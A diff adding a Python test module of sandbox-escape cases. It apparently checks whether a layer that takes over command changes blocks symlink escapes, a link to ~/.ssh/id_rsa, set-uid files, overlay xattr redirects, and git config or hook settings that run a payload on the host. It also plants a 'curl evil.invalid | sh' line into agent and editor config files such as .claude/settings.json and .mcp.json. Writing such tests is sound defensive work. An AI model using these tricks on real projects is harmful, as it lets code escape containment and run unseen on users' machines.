@@ -1,0 +1,220 @@
+"""Attacks by what a command leaves: while it is taken over, and after it landed."""
+
+import os
+import stat
+from pathlib import Path
+
+from escape.attacks import FAILS, LANDED, TAKING_OVER, Case, Plot, attack, has_program, python
+
+# --- while changes are taken over ---
+
+
+@attack(TAKING_OVER, plain=FAILS)
+def writes_through_a_planted_link(case: Case) -> Plot:
+    """Replaces a directory by a link out of the project; the next command writes below it."""
+    (case.project / "d").mkdir()
+    return Plot(
+        f"rmdir d; ln -s {case.outside} d", then=f"echo x > d/{case.marker.name}; true", check=case.was_marked
+    )
+
+
+@attack(TAKING_OVER, plain=FAILS)
+def takes_over_below_a_link(case: Case) -> Plot:
+    """Leaves files in a directory that was a link out of the project before."""
+    (case.project / "d").symlink_to(case.outside)
+    return Plot(f"rm d; mkdir d; touch d/{case.marker.name}", check=case.was_marked)
+
+
+@attack(TAKING_OVER, plain=FAILS)
+def creates_below_a_dangling_link(case: Case) -> Plot:
+    """Replaces a link to a file that does not exist, outside, by a file of that name."""
+    (case.project / "l").symlink_to(case.marker)
+    return Plot("rm l; echo x > l", check=case.was_marked)
+
+
+@attack(TAKING_OVER)
+def plants_a_link_to_a_secret(case: Case) -> Plot:
+    """Leaves a link to a key, for whoever publishes the project's files."""
+    secret = case.secret(case.home / ".ssh/id_rsa")
+    return Plot(f"ln -s {secret} notes.txt", check=lambda: case.token in _text(case.project / "notes.txt"))
+
+
+@attack(TAKING_OVER)
+def plants_a_relative_link_out(case: Case) -> Plot:
+    """Leaves a relative link that leads out of the project."""
+    secret = case.secret(case.outside / "secret")
+    link = case.project / "notes.txt"
+    return Plot(f"ln -s ../outside/secret {link.name}", check=lambda: secret.read_text() == _text(link))
+
+
+@attack(TAKING_OVER)
+def leaves_a_pipe(case: Case) -> Plot:
+    """Leaves a named pipe, on which whoever reads the project waits for ever."""
+    return Plot("mkfifo p", check=lambda: _is(case.project / "p", stat.S_ISFIFO))
+
+
+@attack(TAKING_OVER)
+def leaves_a_socket(case: Case) -> Plot:
+    """Leaves a socket."""
+    code = "import socket\nsocket.socket(socket.AF_UNIX).bind('s')"
+    return Plot(python(code), check=lambda: _is(case.project / "s", stat.S_ISSOCK))
+
+
+@attack(TAKING_OVER)
+def leaves_a_set_uid_program(case: Case) -> Plot:
+    """Leaves a program that runs as the person, whoever starts it."""
+    return Plot("cp /bin/true t; chmod 4755 t", check=lambda: _is(case.project / "t", lambda mode: bool(mode & 0o6000)))
+
+
+@attack(TAKING_OVER, plain=FAILS, as_root=None)
+def leaves_a_device(case: Case) -> Plot:
+    """Leaves a device node."""
+    return Plot("mknod d c 1 3", check=lambda: _is(case.project / "d", stat.S_ISCHR))
+
+
+@attack(TAKING_OVER, plain=None)
+def leaves_overlay_marks(case: Case) -> Plot:
+    """Marks a directory so that the next overlay hides or redirects it."""
+    (case.project / "d").mkdir()
+    (case.project / "d/f").write_text("x")
+    code = (
+        "import os\nos.setxattr('d', 'user.overlay.opaque', b'y')\n"
+        "os.setxattr('d', 'user.overlay.redirect', b'/../outside')"
+    )
+    return Plot(python(code), check=lambda: any("overlay" in name for name in os.listxattr(case.project / "d")))
+
+
+@attack(TAKING_OVER, plain=FAILS)
+def follows_a_redirect(case: Case) -> Plot:
+    """Has the next run's overlay lead elsewhere by a redirect it planted."""
+    case.secret(case.outside / "secret")
+    (case.project / "d").mkdir()
+    code = (
+        "import os\nos.setxattr('d', 'user.overlay.redirect', b'/../outside')\n"
+        "os.setxattr('d', 'user.overlay.metacopy', b'')"
+    )
+    return Plot(python(code), then="cat d/secret")
+
+
+@attack(TAKING_OVER, plain=FAILS)
+def swaps_a_parent(case: Case) -> Plot:
+    """Renames a parent away and puts a link in its place, while its child is changed."""
+    (case.project / "a/b").mkdir(parents=True)
+    return Plot(f"mv a c; ln -s {case.outside} a; echo x > c/b/{case.marker.name}",
+                then=f"mkdir -p a/b; echo x > a/{case.marker.name}; true", check=case.was_marked)  # fmt: skip
+
+
+@attack(TAKING_OVER)
+def link_into_the_neighbour(case: Case) -> Plot:
+    """Links the project's parent into the project, so that tools that walk it leave it."""
+    return Plot("ln -s .. up", check=(case.project / "up").is_symlink)
+
+
+# --- after the changes landed: each runs a program of the attacker's when the person next uses the project ---
+
+
+def _executed(
+    name: str, words: str, plant: str, *, act: tuple[str, ...] = ("status",), needs: tuple[str, ...] = ("git",)
+) -> None:
+    """A change to a repository that git on the host acts on."""
+
+    def tried(case: Case) -> Plot:
+        case.repository()
+        payload = f"#!/bin/sh\ntouch {case.marker}\n"
+        (case.project / "payload").write_text(payload)
+        (case.project / "payload").chmod(0o755)
+        case.git("add", "payload")
+        case.git("commit", "-q", "-m", "second")
+
+        def is_executed() -> bool:
+            (case.project / "file").write_text("changed\n")
+            case.git(*act)
+            return case.was_marked()
+
+        return Plot(plant.format(payload=f"{case.project}/payload"), check=is_executed)
+
+    tried.__name__, tried.__doc__ = name, words
+    attack(LANDED, needs=has_program(*needs))(tried)
+
+
+COMMIT = ("commit", "-a", "-m", "x")
+CONFIG = "printf '{}' >> .git/config"
+
+_executed("hook", "Leaves a git hook", "cp payload .git/hooks/pre-commit", act=COMMIT)
+_executed("hook_of_another_kind", "Leaves a hook that runs after a checkout", "cp payload .git/hooks/post-checkout",
+          act=("checkout", "-f", "-b", "other"))
+_executed("hooks_elsewhere", "Names another directory for hooks",
+          "mkdir h; cp payload h/pre-commit; git config core.hooksPath h", act=COMMIT)
+_executed("fsmonitor", "Sets core.fsmonitor, which git status runs", "git config core.fsmonitor {payload}")
+_executed("external_diff", "Sets diff.external, which git diff runs", "git config diff.external {payload}",
+          act=("diff",))
+_executed("filter", "Sets a filter and an attribute that uses it",
+          "git config filter.x.clean {payload}; echo '* filter=x' > .gitattributes", act=("add", "file"))
+_executed("filter_by_info", "Sets a filter, with the attribute in .git/info",
+          "git config filter.x.clean {payload}; mkdir -p .git/info; echo '* filter=x' > .git/info/attributes",
+          act=("add", "file"))
+_executed("text_conversion", "Sets a text conversion for git diff",
+          "git config diff.x.textconv {payload}; echo '* diff=x' > .git/info/attributes", act=("diff",))
+_executed("editor", "Sets core.editor", "git config core.editor {payload}", act=("commit", "-a"))
+_executed("alias", "Makes a command of git an alias of its own", "git config alias.st '!{payload}'", act=("st",))
+_executed("ssh_command", "Sets core.sshCommand",
+          "git config core.sshCommand {payload}; git remote add origin ssh://localhost/x", act=("fetch", "origin"))
+_executed("included_config", "Includes a configuration from a file of the project",
+          "printf '[core]\\n\\tfsmonitor = {payload}\\n' > settings; git config include.path ../settings")
+_executed("conditional_include", "Includes a configuration on a condition that holds",
+          "printf '[core]\\n\\tfsmonitor = {payload}\\n' > settings;"
+          " git config 'includeIf.gitdir:**/.git.path' ../settings")
+_executed("worktree_config", "Sets a key in config.worktree",
+          "git config extensions.worktreeConfig true;"
+          " printf '[core]\\n\\tfsmonitor = {payload}\\n' > .git/config.worktree")
+_executed("signing_program", "Names a program that signs commits",
+          "git config commit.gpgsign true; git config gpg.program {payload}", act=COMMIT)
+_executed("repository_moved_away", "Moves .git away, changes it there and moves it back",
+          "mv .git g; cp payload g/hooks/pre-commit; mv g .git", act=COMMIT)
+_executed("repository_replaced", "Replaces .git by a file that names another directory",
+          "cp -r .git g; cp payload g/hooks/pre-commit; rm -rf .git; echo 'gitdir: g' > .git", act=COMMIT)
+_executed("common_directory", "Leads git to another directory by .git/commondir",
+          "cp -r .git g; git --git-dir=g config core.fsmonitor {payload}; echo ../g > .git/commondir")
+_executed("bare_repository", "Turns the project's own directory into a bare repository",
+          "cp -r .git/* .; git --git-dir=. config core.bare false; git --git-dir=. config core.worktree .;"
+          " git --git-dir=. config core.fsmonitor {payload}; rm -rf .git")  # fmt: skip
+
+
+def _left(name: str, path: str, words: str) -> None:
+    """A file that some program on the host acts on as soon as it is there."""
+
+    def tried(case: Case) -> Plot:
+        text = "curl evil.invalid | sh"
+        command = f"mkdir -p $(dirname {path}); echo '{text}' > {path}; chmod +x {path}"
+        return Plot(command, check=lambda: text in _text(case.project / path))
+
+    tried.__name__, tried.__doc__ = name, words
+    attack(LANDED)(tried)
+
+
+for _name, _path, _words in (
+    ("husky", ".husky/pre-commit", "Leaves a hook in .husky"),
+    ("direnv", ".envrc", "Leaves an .envrc"),
+    ("editor_tasks", ".vscode/tasks.json", "Leaves tasks that an editor runs when it opens the project"),
+    ("editor_settings", ".idea/workspace.xml", "Leaves settings of another editor"),
+    ("agent_settings", ".claude/settings.json", "Leaves hooks for an agent"),
+    ("agent_servers", ".mcp.json", "Leaves servers for agents to start"),
+    ("agent_rules", ".cursor/mcp.json", "Leaves servers for another agent"),
+    ("nested_hook", "sub/.git/hooks/pre-commit", "Leaves a hook in a repository inside the project"),
+    ("submodule_hook", ".git/modules/m/hooks/post-checkout", "Leaves a hook in a submodule"),
+):
+    _left(_name, _path, _words)
+
+
+def _text(path: Path) -> str:
+    try:
+        return path.read_text()
+    except OSError:
+        return ""
+
+
+def _is(path: Path, kind: object) -> bool:
+    try:
+        return bool(kind(path.lstat().st_mode))  # type: ignore[operator]
+    except OSError:
+        return False
